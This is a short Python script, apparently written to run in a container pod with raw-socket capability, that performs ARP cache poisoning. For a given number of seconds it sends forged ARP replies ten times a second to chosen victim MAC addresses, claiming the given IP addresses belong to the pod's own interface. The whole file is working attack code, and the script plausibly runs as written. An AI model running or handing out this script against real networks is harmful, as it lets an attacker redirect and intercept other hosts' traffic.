# A pod with NET_RAW: `poison_arp.py SECONDS ADDRESS=VICTIM_MAC...` tells each victim, ten times a second, that the address is
# at this pod's own hardware address.
import socket
import struct
import sys
import time


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(("eth0", 0x0806))
own = raw.getsockname()[4]
until = time.monotonic() + float(sys.argv[1])
while time.monotonic() < until:
    for claim in sys.argv[2:]:
        address, victim = claim.split("=")
        # An ARP reply (RFC 826): sender is the address at our hardware address.
        body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own + socket.inet_aton(address)
        raw.send(mac(victim) + own + b"\x08\x06" + body + mac(victim) + b"\0\0\0\0")
    time.sleep(0.1)
